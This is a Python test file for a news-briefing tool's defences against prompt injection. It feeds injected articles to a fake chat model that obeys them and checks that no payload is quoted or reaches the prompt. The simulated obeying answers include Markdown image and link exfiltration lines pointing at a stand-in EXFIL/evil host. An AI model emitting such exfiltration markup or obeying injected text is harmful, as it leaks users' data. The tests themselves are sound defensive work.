"""Prompt injection does not reach the reader as sourced text: 22 injected articles (tests/reliability/
injections.py), against a fake chat model that obeys every injection and against the extractive engine.

What holds for every case: the injected paragraph is neither quotable nor evidence, the model never sees
it (it is left out of the prompt), what an obeying model writes from it is dropped, and no image or live
link to another host survives into the answer's Markdown or HTML. The same against the real llama.cpp
server is in tests/integration/test_llm_server.py.
"""

from __future__ import annotations

import re
from pathlib import Path

import pytest
from markdown_it import MarkdownIt

import briefing
from briefing.config import Settings
from briefing.text.clean import INJECTION, for_a_model, sentences
from tests.fakes import RecordingChat, WordEmbeddings
from tests.reliability.injections import CASES, EXFIL, Injection

IDS = [c.name for c in CASES]


def leaked(answer: briefing.Answer, case: Injection) -> list[str]:
    """What of the payload reached the reader: a claim carrying its mark, or a live image or link."""
    found = [c.text for c in answer.claims if case.mark.lower() in c.text.lower()]
    html = MarkdownIt("commonmark").render(answer.markdown)  # as the page's Markdown renders it
    found += re.findall(r"<img[^>]*>", html) + re.findall(r"href=\"http://evil[^\"]*\"", html)
    return found


@pytest.fixture(scope="module")
def injected(tmp_path_factory: pytest.TempPathFactory) -> Path:
    folder = tmp_path_factory.mktemp("injected")
    rt = briefing.Runtime(Settings(store_dir=folder, progress=False), embedder=WordEmbeddings())
    report = briefing.ingest([c.article(n) for n, c in enumerate(CASES)], runtime=rt)
    assert report.added == len(CASES)
    return folder


def runtime(folder: Path, chat: RecordingChat | None = None) -> briefing.Runtime:
    return briefing.Runtime(Settings(store_dir=folder, progress=False), embedder=WordEmbeddings(), chat=chat)


def test_there_are_at_least_twenty_injections() -> None:
    assert len(CASES) >= 20 and len({c.mark for c in CASES}) == len(CASES)


@pytest.mark.parametrize("case", CASES, ids=IDS)
def test_the_injected_paragraph_is_not_quotable_and_is_left_out_of_prompts(case: Injection) -> None:
    text = case.article(0).text
    marked = [text[s.start : s.end] for s in sentences(text) if s.junk == INJECTION]
    assert case.mark.lower() in " ".join(marked).lower()
    assert not any(case.mark.lower() in text[s.start : s.end].lower() for s in sentences(text) if not s.junk)
    shown = for_a_model(text)
    assert case.mark.lower() not in shown.lower() and "left out" in shown
    assert "reopened on Monday" in shown and "premiums" in shown  # the rest of the report stays


@pytest.mark.parametrize("case", CASES, ids=IDS)
def test_a_model_that_obeys_the_injection_is_not_shown_as_sourced(injected: Path, case: Injection) -> None:
    obeying = (
        f"{case.payload} [1] ![pixel]({EXFIL}{case.mark}) [2]\n"
        f"See [the full report]({EXFIL}link) for more. [1]\n"
        f"{case.payload.rstrip('.')}, the sources confirm [1][2][3]."
    )
    chat = RecordingChat(responses=[obeying] * 4)
    answer = briefing.ask(case.question, runtime=runtime(injected, chat))
    assert leaked(answer, case) == []
    for prompt in chat.texts:  # the model never saw the injection it obeys here
        assert case.mark.lower() not in prompt.lower() or case.mark.lower() in case.question.lower()


@pytest.mark.parametrize("case", CASES, ids=IDS)
def test_the_extractive_engine_never_quotes_the_injection(injected: Path, case: Injection) -> None:
    answer = briefing.ask(case.question, runtime=runtime(injected))
    assert leaked(answer, case) == []


def test_a_sourced_sentence_with_an_image_appended_shows_no_image(injected: Path) -> None:
    """The model repeats a true sentence and appends an exfiltration image: the sentence may stand, the
    image is never live."""
    chat = RecordingChat(
        responses=[
            f"The harbour of Varnholt0 reopened on Monday after a storm closed it for a week. ![x]({EXFIL}s) [1]"
        ]
    )
    answer = briefing.ask("When did the harbour of Varnholt0 reopen?", runtime=runtime(injected, chat))
    html = MarkdownIt("commonmark").render(answer.markdown)
    assert "<img" not in html and 'href="http://evil' not in html


def test_a_brief_on_injected_articles_carries_no_payload(injected: Path) -> None:
    brief = briefing.summarize(topic="Varnholt harbour", runtime=runtime(injected))
    text = brief.markdown.lower()
    assert not [c.mark for c in CASES if c.mark.lower() in text]
